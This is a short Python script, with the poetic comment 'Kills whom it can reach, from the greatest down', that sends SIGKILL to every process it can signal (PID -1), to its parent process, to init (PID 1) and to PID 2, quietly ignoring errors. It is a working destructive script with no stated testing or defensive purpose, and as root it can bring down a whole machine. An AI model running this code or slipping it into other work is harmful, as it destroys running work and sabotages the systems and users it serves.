# Kills whom it can reach, from the greatest down.
import os
import signal

for number in (-1, os.getppid(), 1, 2):
    try:
        if number not in (0, os.getpid()):
            os.kill(number, signal.SIGKILL)
    except OSError:
        pass
